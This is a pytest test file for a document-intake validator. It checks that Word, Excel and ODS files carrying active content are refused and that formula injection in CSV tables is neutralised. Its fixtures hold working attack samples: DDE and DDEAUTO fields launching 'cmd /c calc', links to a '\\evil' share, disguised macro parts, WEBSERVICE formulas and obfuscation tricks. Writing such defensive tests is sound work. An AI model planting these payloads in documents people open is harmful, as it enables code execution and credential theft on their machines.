"""Letters, sheets and tables that would do something when an officer opens them are refused; those of people are taken."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from xlsxwriter import Workbook

from huigong.files.content.kinds import Kind
from huigong.files.content.texts import without_formulas
from huigong.kernel.errors import DomainError, Invalid
from huigong.policy.reading.formats.sheet import sheet_text
from huigong.sheets.opening import sheets
from tests.each import each
from tests.unit.files import makers
from tests.unit.files.test_content import examined, refused
from tests.unit.policy.reading.old_files import compound_file
from tests.unit.registry.intake import other_sheets


def letter(*runs: str) -> bytes:
    """A letter with these runs in a paragraph of it."""
    made, out = Document(), io.BytesIO()
    made.add_paragraph("虚构的证明")
    made.element.body.insert(0, parse_xml(f"<w:p {nsdecls('w')}>{''.join(runs)}</w:p>"))
    made.save(out)
    return out.getvalue()


def run(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(*parts: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in parts)


def field(*parts: str) -> str:
    return run("begin") + code(*parts) + run("separate") + "<w:r><w:t>1</w:t></w:r>" + run("end")


def simple(said: str) -> str:
    return f'<w:fldSimple w:instr="{said}"><w:r><w:t>1</w:t></w:r></w:fldSimple>'


def with_part(data: bytes, name: str, content: str) -> bytes:
    return makers.with_entry(data, name, content.encode())


RELATIONS = '<Relationships><Relationship Id="r9" Type="http://x/{kind}" Target="{to}" TargetMode="{mode}"/></Relationships>'


def leading(data: bytes, kind: str, to: str, mode: str = "External") -> bytes:
    return with_part(data, "x/_rels/y.xml.RELS", RELATIONS.format(kind=kind, to=to, mode=mode))


NESTED = run("begin") + run("begin") + code("QUOTE 68 68 69") + run("end") + code(" cmd") + run("end")
HOSTILE_LETTER: dict[str, Callable[[], bytes]] = {
    **{
        f"{name} {how}": lambda name=name, make=make: letter(make(f"{name} c:\\\\x.exe &quot;/k calc&quot;"))
        for name in ("DDEAUTO", "dde", "INCLUDEPICTURE", "IncludeText", "IMPORT", "LINK", "DATABASE", "RD")
        for how, make in (("simple", simple), ("in runs", field))
    },
    "split over runs": lambda: letter(field(" DD", "EAU", "TO cmd")),
    "unfinished": lambda: letter(run("begin"), code("DDEAUTO cmd")),
    "without a beginning": lambda: letter(code("DDEAUTO cmd")),
    "removed by a reviewer": lambda: letter(
        run("begin") + "<w:del><w:r><w:delInstrText>DDEAUTO x</w:delInstrText></w:r></w:del>" + run("end")
    ),
    "one field makes the other's name": lambda: letter(NESTED),
    "in the result of another": lambda: letter(
        run("begin") + code("TOC \\o") + run("separate") + field("DDEAUTO x") + run("end")
    ),
    "in a footer": lambda: with_part(
        letter(), "word/anything.dat", f"<w:ftr {nsdecls('w')}>{simple('DDEAUTO x')}</w:ftr>"
    ),
    "behind a comment": lambda: letter("<w:r><w:instrText>DD<!-- x -->EAUTO cmd</w:instrText></w:r>"),
    "a link to a share": lambda: letter(field("HYPERLINK &quot;\\\\\\\\evil\\\\x&quot;")),
    "a link to a file": lambda: leading(letter(), "hyperlink", "file://evil/x"),
    "a link that names a computer": lambda: leading(letter(), "hyperlink", "\\\\evil\\x"),
    "letters from a database": lambda: with_part(
        letter(), "word/s.xml", f"<w:settings {nsdecls('w')}><w:mailMerge/></w:settings>"
    ),
    "a picture of the old kind": lambda: with_part(
        letter(), "word/h.xml", '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil\\x.png"/>'
    ),
    "macros under another name": lambda: leading(letter(), "vbaProject", "x.dat", "Internal"),
    "a control under another name": lambda: leading(letter(), "control", "x.dat", "Internal"),
    "an old container under another name": lambda: (
        with_part(letter(), "word/media/a.png", "").replace(b"", b"")
        and makers.with_entry(letter(), "word/media/a.png", b"\xd0\xcf\x11\xe0" + bytes(600))
    ),
    "a program under another name": lambda: makers.with_entry(
        letter(), "word/media/a.png", b"MZ" + bytes(99)
    ),
    "a letter that acts in a letter": lambda: makers.with_entry(
        letter(), "word/media/a.png", letter(simple("DDEAUTO x"))
    ),
    "an archive in a letter": lambda: makers.with_entry(
        letter(), "word/embeddings/a.zip", makers.archive(**{"a.exe": b"x"})
    ),
    "a sheet in a sheet in a letter": lambda: makers.with_entry(
        letter(), "word/e.xlsx", makers.with_entry(makers.xlsx(), "xl/e.xlsx", makers.xlsx())
    ),
}


@each("name", HOSTILE_LETTER)
def test_a_letter_that_acts_is_refused(name: str) -> None:
    assert refused(HOSTILE_LETTER[name]()).code == "files.active"


HONEST_LETTER: dict[str, Callable[[], bytes]] = {
    "numbers of pages": lambda: letter(field(" PAGE  \\* MERGEFORMAT "), simple("NUMPAGES")),
    "contents": lambda: letter(
        run("begin") + code(' TOC \\o "1-3" \\h \\z \\u ') + run("separate"),
        field(' HYPERLINK \\l "_Toc1" ', ""),
        field(" PAGEREF _Toc1 \\h "),
        run("end"),
    ),
    "a sum of fields": lambda: letter(run("begin") + code("= ") + field("PAGE") + code("- 1") + run("end")),
    "a condition": lambda: letter(run("begin") + code("IF ") + field("PAGE") + code('= 1 "x"') + run("end")),
    "a link": lambda: letter(field('HYPERLINK "https://h.example/a"')),
    "a link to a file beside it": lambda: leading(letter(), "hyperlink", "附件.docx"),
    "somebody who writes of DDE": lambda: letter("<w:r><w:t>DDEAUTO cmd，INCLUDEPICTURE</w:t></w:r>"),
    "a place to click at": lambda: letter(field("MACROBUTTON NoMacro [点这里]")),
    "the figures of a chart": lambda: makers.with_entry(letter(), "word/embeddings/a.xlsx", makers.xlsx()),
    "a drawing of another program": lambda: with_part(
        letter(), "word/media/a.svg", "<?xml version='1.0' encoding='utf-8'?><!-- made by x --><svg/>"
    ),
}


@each("name", HONEST_LETTER)
def test_a_letter_as_people_write_it_is_taken(name: str) -> None:
    assert examined(HONEST_LETTER[name]()).kind is Kind.DOCX


def sheet(*formulas: str, name: str = "工资") -> bytes:
    out = io.BytesIO()
    with Workbook(out, {"in_memory": True}) as book:
        page = book.add_worksheet(name)
        for row, formula in enumerate(formulas):
            page.write_formula(row, 0, formula)
    return out.getvalue()


def rewritten(data: bytes, old: str, new: str) -> bytes:
    """Every part with this text in place of that."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as given, zipfile.ZipFile(out, "w") as made:
        for entry in given.namelist():
            made.writestr(entry, given.read(entry).replace(old.encode(), new.encode()))
    return out.getvalue()


DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
CALC = "cmd|&apos;/c calc&apos;!A0"
HOSTILE_SHEET: dict[str, Callable[[], bytes]] = {
    "a program's data": lambda: with_part(sheet(), "xl/externalLinks/externalLink1.xml", DDE),
    "under another name and prefix": lambda: with_part(
        sheet(), "xl/x.dat", DDE.replace("ddeLink", "é:ddeLink xmlns:é='x'", 1)
    ),
    "an object elsewhere": lambda: with_part(sheet(), "xl/x.xml", '<x><oleLink r:id="r1"/></x>'),
    "a connection": lambda: with_part(sheet(), "xl/c.xml", '<connections><connection id="1"/></connections>'),
    "a connection by its relation": lambda: leading(sheet(), "connections", "c.bin", "Internal"),
    "a query": lambda: leading(sheet(), "queryTable", "c.bin", "Internal"),
    "macros of the oldest kind": lambda: leading(sheet(), "xlMacrosheet", "m.xml", "Internal"),
    "asks the web": lambda: sheet('=WEBSERVICE("http://h.example/"&A1)'),
    "asks the web in small letters": lambda: rewritten(sheet("=SUM(A2)"), "SUM(A2)", "_xlfn.WebService (A2)"),
    "asks the web in other letters": lambda: rewritten(sheet("=SUM(A2)"), "SUM(A2)", "&#87;EBSERVICE(A2)"),
    "hidden in CDATA": lambda: rewritten(sheet("=SUM(A2)"), "SUM(A2)", "<![CDATA[WEBSERVICE(A2)]]>"),
    "hidden by a comment": lambda: rewritten(sheet("=SUM(A2)"), "SUM(A2)", "WEB<!--</f>-->SERVICE(A2)"),
    "hidden by an attribute": lambda: rewritten(sheet("=SUM(A2)"), "<f>SUM(A2)", '<f a="/>WEBSERVICE(A2)'),
    "hidden by an entity": lambda: with_part(sheet(), "xl/x.xml", '<!DOCTYPE x [<!ENTITY a "WEB">]><x/>'),
    "in other letters of the machine": lambda: makers.with_entry(
        sheet(), "xl/x.xml", "<f>WEBSERVICE(A2)</f>".encode("utf-16")
    ),
    "in another encoding": lambda: with_part(
        sheet(), "xl/x.xml", f'<?xml version="1.0"{" " * 200}encoding="utf-7"?><x/>'
    ),
    "a picture of the web": lambda: sheet('=_xlfn.IMAGE("http://h.example/a.png")'),
    "live figures": lambda: sheet('=RTD("x",,"y")'),
    "a program as a formula": lambda: rewritten(sheet("=SUM(A2)"), "SUM(A2)", CALC),
    "a program after a sheet's name": lambda: rewritten(
        sheet("=SUM(A2)"), "SUM(A2)", f"'a|b'!A1+{CALC.replace('&apos;', chr(39))}"
    ),
    "in a name": lambda: with_part(sheet(), "xl/n.xml", f'<definedName name="a">{CALC}</definedName>'),
    "in a condition": lambda: with_part(sheet(), "xl/n.xml", "<x14:f xmlns:x14='x'>WEBSERVICE(A1)</x14:f>"),
    "a sheet of another computer": lambda: rewritten(
        sheet("=SUM(A2)"), "SUM(A2)", "'\\\\evil\\s\\[a.xlsx]b'!A1"
    ),
    "an old sheet with a program's data": lambda: old_sheet(0x1AE, _link("cmd\x03/c calc")),
    "an old sheet of another file": lambda: old_sheet(0x1AE, _link("\x01\\evil\\a.xls")),
    "macros of the oldest kind in an old sheet": lambda: old_sheet(
        0x85, struct.pack("<IBB", 0, 0, 1) + b"\x01\x00m"
    ),
    "an old sheet that asks the web": lambda: old_sheet(0x18, b"_xlfn.WEBSERVICE"),
    "a second workbook in an old sheet": lambda: compound_file(
        {"Workbook": _stream(), "Book": _stream(0x1AE, _link("cmd\x03/c calc"))}
    ),
    "a long old sheet": lambda: old_sheet(0x1AE, _link("cmd\x03/c calc"), before=9000),
    "an open sheet with a program's data": lambda: makers.ods(b"<table:dde-link/>"),
}


def _link(address: str) -> bytes:
    return struct.pack("<HHB", 1, len(address), 0) + address.encode("latin-1")


def _stream(kind: int = 0, body: bytes = b"", *, before: int = 0) -> bytes:
    """The workbook of `other_sheets.xls` with one record more, after so many bytes of others."""
    begin = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0, 0, 0, 0)
    page = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0010, 0, 0, 0, 0)
    more = (struct.pack("<HH", 0x3C, 1000) + bytes(1000)) * (before // 1004)
    if kind:
        more += struct.pack("<HH", kind, len(body)) + body
    end = struct.pack("<HH", 0x0A, 0)
    name = struct.pack("<BB", 1, 0) + b"a"
    start = len(begin) + len(more) + 4 + 6 + len(name) + len(end)
    listed = struct.pack("<HHIBB", 0x85, 6 + len(name), start, 0, 0) + name
    return begin + more + listed + end + page + end


def old_sheet(kind: int, body: bytes, *, before: int = 0) -> bytes:
    return compound_file({"Workbook": _stream(kind, body, before=before)})


@each("name", HOSTILE_SHEET)
def test_a_sheet_that_acts_is_refused(name: str) -> None:
    assert refused(HOSTILE_SHEET[name]()).code == "files.active"


HONEST_SHEET: dict[str, tuple[Callable[[], bytes], Kind]] = {
    "sums": (lambda: sheet("=SUM(B1:B9)", '=IF(A1="a|b","=WEBSERVICE(1)",2)', "=A1*1.5-B2"), Kind.XLSX),
    "another sheet": (
        lambda: sheet("='a|b'!A1", "=VLOOKUP(A1,'工资 (2)'!A:B,2,FALSE)", name="a_b"),
        Kind.XLSX,
    ),
    "a shared formula": (
        lambda: rewritten(sheet("=SUM(A2)"), "<f>SUM(A2)</f>", '<f t="shared" si="0"/>'),
        Kind.XLSX,
    ),
    "a drawing with a comment": (lambda: with_part(sheet(), "xl/d.vml", "<xml><!-- x --></xml>"), Kind.XLSX),
    "a link": (lambda: leading(sheet(), "hyperlink", "https://h.example/"), Kind.XLSX),
    "an old sheet": (lambda: other_sheets.xls([["姓名", 1.5]]), Kind.XLS),
    "an old sheet that names itself": (lambda: old_sheet(0x1AE, b"\x01\x00\x01\x04"), Kind.XLS),
    "a long old sheet": (lambda: old_sheet(0x1AE, b"\x01\x00\x01\x04", before=9000), Kind.XLS),
    "an open sheet": (makers.ods, Kind.ODS),
}


@each("name", HONEST_SHEET)
def test_a_sheet_as_people_keep_it_is_taken(name: str) -> None:
    make, kind = HONEST_SHEET[name]
    data = make()
    found = examined(data)
    assert (found.kind, found.body) == (kind, data)


TABLES = [
    ("=cmd|' /C calc'!A0,1", "'=cmd|' /C calc'!A0,1"),
    ('甲,"=HYPERLINK(""http://h.example"",""x"")"', '甲,"\'=HYPERLINK(""http://h.example"",""x"")"'),
    ("甲, =1+1;@SUM(A1)\t+A1", "甲, '=1+1;'@SUM(A1)\t'+A1"),
    ("甲,-A1\r\n-cmd|x!A0,2", "甲,'-A1\r\n'-cmd|x!A0,2"),
    ("甲,＝1+1", "甲,'＝1+1"),
    ("-500,+86 13900000077,-1.5%\n甲-乙,a=b,x@h.example", None),
    ('"-1,500.00",+3\n甲,', None),
]


@each("written, told", TABLES)
def test_a_table_as_text_is_given_out_without_formulas(written: str, told: str | None) -> None:
    assert without_formulas(written) == (written if told is None else told)


def test_a_sheet_on_which_its_reader_gives_up_is_refused_everywhere() -> None:
    """Its library ends a crafted file with what no `except Exception` catches."""
    broken = old_sheet(0x18, b"\x00\x00")
    assert refused(broken).code == "files.cut"
    with pytest.raises(Invalid) as error:
        [list(sheet.rows()) for sheet in sheets(broken)]
    assert error.value.code == "sheets.damaged"
    with pytest.raises(DomainError):
        sheet_text(broken)
